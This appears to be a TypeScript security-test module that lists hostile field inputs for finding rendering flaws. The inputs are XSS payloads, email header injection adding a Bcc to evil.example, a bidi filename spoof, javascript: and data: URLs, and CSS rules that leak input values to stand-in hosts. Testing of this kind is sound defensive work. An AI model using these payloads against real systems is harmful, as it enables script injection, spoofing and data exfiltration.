/** A text that would take effect in the recipient's client. The mark identifies where it was sent. */
export interface Hostile {
  readonly family: 'picture' | 'script' | 'frame' | 'style' | 'header' | 'bidi' | 'address'
  readonly text: (mark: string) => string
}

/** A host from which nothing may be loaded; it contains the mark. */
const at = (mark: string, path = 'pixel.gif') => `https://${mark}.example/${path}`

/** For text fields. */
export const TEXTS: readonly Hostile[] = [
  { family: 'picture', text: (mark) => `${mark}<img src="${at(mark)}" width=1 height=1>` },
  { family: 'picture', text: (mark) => `![${mark}](${at(mark)})` },
  { family: 'picture', text: (mark) => `${mark}"><table background="${at(mark)}"><input type=image src=${at(mark)}>` },
  { family: 'script', text: (mark) => `${mark}</title></style><script src=${at(mark, 'x.js')}></script>` },
  { family: 'script', text: (mark) => `${mark}" onmouseover="alert(1)" x="'><svg onload=alert(1)>` },
  {
    family: 'frame',
    text: (mark) => `${mark}<iframe src="${at(mark, '')}"></iframe><meta http-equiv=refresh content="0;url=${at(mark)}">`,
  },
  { family: 'style', text: (mark) => `${mark}<style>@import "${at(mark, 'x.css')}"</style><p style="background:url(${at(mark)})">` },
  { family: 'header', text: (mark) => `${mark}\r\nBcc: ${mark}@evil.example\r\nContent-Type: text/html\r\n\r\n<h1>x` },
  { family: 'header', text: (mark) => `${mark}\u2028Bcc: ${mark}@evil.example\u0085X-Eyes: 1` },
  { family: 'header', text: (mark) => `=?utf-8?q?${mark}=0D=0ABcc:_${mark}@evil.example?=` },
  { family: 'header', text: (mark) => `"${mark}" <${mark}@evil.example>, ${mark}@evil.example` },
  { family: 'bidi', text: (mark) => `${mark} \u202egnp.exe\u2066 x` },
  { family: 'address', text: (mark) => `[${mark}](javascript:alert(1)) <a href="data:text/html,${mark}">x</a>` },
]

/** All of them in one text, the shortest first, for fields of any length. */
const together = (mark: string) => [...TEXTS.map(({ text }) => text(mark))].sort((a, b) => a.length - b.length).join(' ')

/** For URL fields: none of these may be accepted. */
export const SCHEMES: readonly Hostile[] = [
  'javascript:alert(1)//MARK',
  'java\tscript:alert(1)//MARK',
  'data:text/html,<script>MARK</script>',
  'vbscript:MARK',
  '//MARK.example/pixel.gif',
  '/\\MARK.example/pixel.gif',
  'https://MARK.example/"onerror="alert(1)',
  'https://MARK.example/\r\nX-Eyes: 1',
].map((form) => ({ family: 'address', text: (mark) => form.replace('MARK', mark) }))

/** For style sheets: none of these may be accepted. */
export const SHEETS: readonly Hostile[] = [
  'input[value$="x"]{background:url(https://MARK.example/x)}',
  '@import "https://MARK.example/x.css";',
  'a{background:u\\72l(//MARK.example/x)}',
  'a{background:image-set("https://MARK.example/x" 1x)}',
  '@font-face{font-family:x;src:url(https://MARK.example/x)}',
  ':root{--x:"https://MARK.example/x"}',
].map((form) => ({ family: 'style', text: (mark) => form.replace('MARK', mark) }))

/** Fields that browsers navigate to or load from. */
const IS_ADDRESS =
  /(?:url|link|permalink|website|avatar|photo|image|images\.0|logo|favicon|video|redirect|thumbnail|src|href|bannerImage|bannerVideo|social_links\.\w+)$/i

/** Valid values for restricted fields, to find where their text is shown. */
const lawfulFor = (path: string): readonly ((mark: string) => string)[] => {
  if (/custom_css$/.test(path)) return [(mark) => `.${mark}{color:red}`]
  if (/email$/.test(path)) return [(mark) => `${mark}@evil.example`]
  if (/svg$/.test(path)) return [(mark) => `<svg><path d="M0 0" fill="${mark}"/></svg>`]
  return IS_ADDRESS.test(path) ? [(mark) => at(mark), (mark) => mark] : [(mark) => mark]
}

const turned = (list: readonly Hostile[], by: number): readonly Hostile[] => {
  const first = by % list.length
  return [...list.slice(first), ...list.slice(0, first)]
}

/**
 * The values to try in a field until one is accepted: in the first round all hostile texts in one, later rounds start with another one
 * each.
 */
export const valuesFor = (path: string, round: number): readonly ((mark: string) => string)[] => {
  const lawful = lawfulFor(path)
  if (/custom_css$/.test(path)) return [...turned(SHEETS, round).map(({ text }) => text), ...lawful]
  if (IS_ADDRESS.test(path))
    return [
      ...turned(SCHEMES, round)
        .slice(0, 3)
        .map(({ text }) => text),
      ...lawful,
    ]
  const texts = turned(TEXTS, round + TEXTS.length - 1).map(({ text }) => text)
  return [...(round === 0 ? [together] : []), ...texts.slice(0, round === 0 ? 1 : 2), ...lawful]
}
